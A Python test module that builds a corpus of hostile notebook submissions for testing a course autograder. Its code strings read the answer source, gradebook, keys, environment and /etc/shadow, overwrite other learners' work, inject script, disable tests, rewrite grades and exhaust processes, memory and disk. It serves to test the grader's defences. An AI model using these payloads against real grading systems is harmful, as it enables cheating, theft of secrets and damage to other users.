"""A corpus of hostile hand-ins, written as an attacker would try it, one or more per class.

Every case hands in the module's *blank* answers (so any point it earns is unearned) plus code
that tries to get marks, read secrets, harm other learners or the grader, or break the batch.
Cases are built from the cohort's release, so they stay valid as the modules change. Secrets
they aim at are real: the cohort's source notebook, gradebook, keys, the trainer's environment
and home, other learners' hand-ins and kernels.
"""

from __future__ import annotations

import base64
from pathlib import Path

import nbformat

from servicecourse.grading.answers import answer_names
from servicecourse.grading.cells import grade_id, is_answer, is_test

MARKER = "hostile-corpus-process"  # in the command line of every process a case starts


def _answer_cells(notebook) -> list:
    return [c for c in notebook.cells if is_answer(c) and c.cell_type == "code"]


def _added(notebook, code: str, where: str = "top"):
    """The notebook with a new code cell (no nbgrader metadata) after the setup cell or at the end."""
    cell = nbformat.v4.new_code_cell(code)
    if where == "top":
        first_answer = notebook.cells.index(_answer_cells(notebook)[0])
        notebook.cells.insert(first_answer, cell)
    else:
        notebook.cells.append(cell)
    return notebook


def _in_every_answer(notebook, code: str):
    """Each answer cell: ``code`` (with NAME standing for the answer's name) instead of the literal."""
    for cell in _answer_cells(notebook):
        names = answer_names(cell.source) or ("answer",)
        cell.source = code.replace("NAME", names[0])
    return notebook


def _first_answer(notebook, code: str):
    cell = _answer_cells(notebook)[0]
    cell.source = cell.source + "\n" + code
    return notebook


def _prefix(folder: Path) -> str:
    """Imports, the cohort's real path, and ROOTS: where an attacker would look for secrets
    (a walk of the whole file system takes longer than the time a notebook gets)."""
    roots = ["/tmp", "/home", "/root", "/srv", "/var", str(folder.parent), str(Path(__file__).parent.parent)]
    return (f"import os, sys, glob, json, subprocess, socket\nCOHORT = {str(folder)!r}\n"
            f"ROOTS = {roots!r}\n"
            "def everywhere(pattern):\n"
            "    return [p for root in ROOTS for p in glob.glob(root + '/**/' + pattern, recursive=True)]\n")


def cases(folder: Path, module: str, canary_port: int, roleplay: dict[str, str]) -> dict[str, object]:
    """Every hostile hand-in for ``module`` of the cohort in ``folder``: {learner id: notebook}.

    ``roleplay`` gives the forged, copied and later-attempt codes for the module's role-play
    item (keys ``forged``, ``copied``, ``later``), made by the test with the cohort's key or
    without it, as an attacker would have them.
    """
    release = next((folder / "release" / module).glob("*.ipynb"))
    source = next((folder / "source" / module).glob("*.ipynb"))
    blank = lambda: nbformat.read(release, as_version=4)  # noqa: E731
    p = _prefix(folder)
    made: dict[str, object] = {}

    # --- marks without knowing the answers ------------------------------------------------------
    made["equal-to-anything"] = _in_every_answer(blank(), (
        "class _Any(str):\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n"
        "    __hash__ = str.__hash__\n    __lt__ = lambda self, other: False\n"
        "    def strip(self, *a):\n        return self\n    def upper(self):\n        return self\n"
        "class _AnyDict(dict):\n    __eq__ = lambda self, other: True\n"
        "    def __getitem__(self, key):\n        return _Any('x')\n"
        "class _AnyFloat(float):\n    __eq__ = lambda self, other: True\n    __ge__ = lambda s, o: True\n"
        "NAME = _Any('x')"))
    made["reads-source-notebook"] = _first_answer(blank(), p + (
        "found = glob.glob(COHORT + '/source/**/*.ipynb', recursive=True) + everywhere('source/*/*.ipynb')\n"
        "print('FOUND', found)\n"
        "for path in found:\n    print(open(path).read())"))
    made["reads-graded-copy"] = _first_answer(blank(), (
        "import os\nfor name in os.listdir('.'):\n"
        "    print(name, open(name).read()[:2000] if os.path.isfile(name) else '')\n"
        "print(open('../' + os.path.basename(os.getcwd()) + '.ipynb').read() if os.path.exists('..') else '')"))
    made["obfuscated-reader"] = _first_answer(blank(), (
        "import importlib, base64\nm = importlib.import_module(''.join(map(chr, [111, 115])))\n"
        f"target = base64.b64decode({base64.b64encode(str(folder).encode()).decode()!r}).decode()\n"
        "for d, ds, fs in m.walk(target):\n    for f in fs:\n        print(d, f)"))
    made["ipython-hooks"] = _added(blank(), (
        "import ast, sys\nip = get_ipython()\n"
        "class _Drop(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "ip.ast_transformers.append(_Drop())\n"
        "def _hide(lines):\n    text = ''.join(lines)\n"
        "    return ['pass\\n'] if ('HIDDEN TESTS' in text or '\"\"\"' in text) else lines\n"
        "ip.input_transformers_cleanup.append(_hide)\n"
        "_run = ip.run_cell\n"
        "ip.run_cell = lambda raw_cell, *a, **k: _run('pass' if 'HIDDEN' in raw_cell else raw_cell, *a, **k)\n"
        "ip.events.register('pre_run_cell', lambda info: None)\nsys.settrace(lambda *a: None)"))
    made["patched-builtins-and-checks"] = _added(blank(), (
        "import builtins, servicecourse.checks as checks\n"
        "builtins.sorted = lambda x, **k: list(x)\nbuiltins.abs = lambda x: 0\n"
        "for _name in dir(checks):\n    if _name.startswith(('score_', 'check_', 'roleplay_')):\n"
        "        _fake = lambda *a, points=None, **k: points if points is not None else True\n"
        "        setattr(checks, _name, _fake)\n        globals()[_name] = _fake\n"
        "    if _name == 'NotYet':\n        checks.NotYet = type('NotYet', (Exception,), {})"))
    made["exits-early"] = _added(blank(), "import os\nos._exit(0)", where="end")
    if roleplay:
        for case in ("forged", "copied", "later"):
            made[f"roleplay-code-{case}"] = _set_roleplay(blank(), source, roleplay[case])

    # --- secrets reaching a learner ----------------------------------------------------------------
    made["prints-solutions"] = _first_answer(blank(), p + (
        "for pattern in ('solutions/*/*.ipynb', '*.ipynb', '*.db', '.certificate-key', 'roleplay/key'):\n"
        "    for path in everywhere(pattern):\n        print(path, open(path, errors='replace').read()[:5000])"))
    made["writes-beside-itself"] = _first_answer(blank(), (
        "import shutil, glob\nopen('gradebook.db', 'w').write('fake')\n"
        "open('answers.html', 'w').write('<script>x</script>')\n"
        "for path in glob.glob('/**/gradebook*.db'):\n    shutil.copy(path, '.')\n"
        "open('/tmp/big', 'w').write('x' * 1000)"))
    made["runs-html-and-script"] = _first_answer(blank(), (
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>document.title=\"pwned\"</script><img src=x onerror=alert(1)>'))\n"
        "display(Javascript('alert(2)'))"))
    reflection = next((c for c in blank().cells if is_answer(c) and c.cell_type == "markdown"), None)
    if reflection is not None:
        nb = blank()
        for cell in nb.cells:
            if grade_id(cell) == grade_id(reflection):
                cell.source = "<script>alert('formgrader')</script><img src=x onerror=alert(3)> my reflection"
        made["reflection-with-script"] = nb
    made["reads-environment-and-home"] = _first_answer(blank(), p + (
        "print(dict(os.environ))\nprint(os.path.expanduser('~'), os.listdir(os.path.expanduser('~')))\n"
        "for path in (COHORT + '/.certificate-key', COHORT + '/roleplay/key', COHORT + '/roster.csv',\n"
        "             '/root/.bash_history', '/etc/shadow'):\n"
        "    try:\n        print(path, open(path).read())\n    except OSError as e:\n        print(path, e)"))

    # --- harm to others and to the grader ---------------------------------------------------------
    made["overwrites-other-learner"] = _first_answer(blank(), p + (
        "for path in glob.glob(COHORT + '/submitted/*/*/*.ipynb') + glob.glob('../../*/*/*.ipynb'):\n"
        "    try:\n        open(path, 'w').write('{}')\n    except OSError as e:\n        print(e)"))
    made["detached-gradebook-rewriter"] = _first_answer(blank(), p + (
        f"subprocess.Popen([sys.executable, '-c', 'import time, glob, sqlite3; time.sleep(20); "
        f"[sqlite3.connect(p).execute(\"update grade set manual_score=99\") "
        f"for p in glob.glob(\"/tmp/**/*.db\", recursive=True)]', "
        f"'{MARKER}'], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"))
    made["appends-to-config"] = _first_answer(blank(), p + (
        "for path in (COHORT + '/nbgrader_config.py', COHORT + '/source/x.py'):\n"
        "    try:\n        open(path, 'a').write('\\nimport os; os.system(\"touch /tmp/pwned\")\\n')\n"
        "    except OSError as e:\n        print(e)"))
    made["edits-source-and-repo"] = _first_answer(blank(), p + (
        "import servicecourse, pathlib\nfor path in [*glob.glob(COHORT + '/source/*/*.ipynb'),\n"
        "             str(pathlib.Path(servicecourse.__file__).parent / 'checks.py'), sys.prefix + '/pyvenv.cfg']:\n"
        "    try:\n        open(path, 'a').write('#')\n    except OSError as e:\n        print(e)"))
    made["drives-other-kernels"] = _first_answer(blank(), p + (
        "import signal\nfor path in everywhere('*.json'):\n"
        "    print(path, open(path).read())\n"
        "for pid in range(2, 70000):\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass"))
    made["fork-bomb"] = _first_answer(blank(), p + (
        "made = 0\ntry:\n    for _ in range(500):\n"
        f"        subprocess.Popen(['sleep', '900', '{MARKER}'], start_new_session=True)\n        made += 1\n"
        "except OSError as e:\n    print('stopped at', made, e)"))
    made["huge-file"] = _first_answer(blank(), (
        "try:\n    with open('huge.bin', 'wb') as f:\n        for _ in range(1024):\n"
        "            f.write(b'x' * 1024 * 1024)\n"
        "except OSError as e:\n    print('stopped', e)"))
    made["memory-hog"] = _first_answer(blank(), (
        "try:\n    hog = bytearray(3 * 1024 ** 3)\nexcept MemoryError:\n    print('no memory')"))
    made["network"] = _first_answer(blank(), (
        "import socket\nfor port in (" + str(canary_port) + ", 22, 80, 5432, 8000, 8081):\n"
        "    try:\n        socket.create_connection(('127.0.0.1', port), timeout=1).sendall(b'hello')\n"
        "        print('reached', port)\n    except OSError as e:\n        print(port, e)"))
    made["many-slow-cells"] = _added(blank(), "import time\ntime.sleep(25)", where="end")
    for _ in range(2):
        made["many-slow-cells"] = _added(made["many-slow-cells"], "import time\ntime.sleep(25)", where="end")

    # --- bad input -----------------------------------------------------------------------------------
    nb = blank()
    next(c for c in nb.cells if is_test(c)).metadata["nbgrader"] = "not a dictionary"
    made["metadata-not-a-dict"] = nb
    nb = blank()
    for cell in nb.cells:
        if is_test(cell):
            cell.source = "pass  # nothing to check here"
    made["edits-test-cells"] = nb
    nb = blank()
    nb.cells = [c for c in nb.cells if not is_test(c)]
    made["deletes-test-cells"] = nb
    return made


def _set_roleplay(notebook, source: Path, code: str):
    from servicecourse.cohort.submissions import roleplay_items

    items = roleplay_items(source)
    for cell in notebook.cells:
        if grade_id(cell) in items:
            cell.source = f'{answer_names(cell.source)[0]} = "{code}"'
    return notebook


EXPECTED_FAILED = {  # case -> words of the reason it could not be graded
    "exits-early": "kernel died",
    "many-slow-cells": "limit",
    "metadata-not-a-dict": "not a dictionary",
}
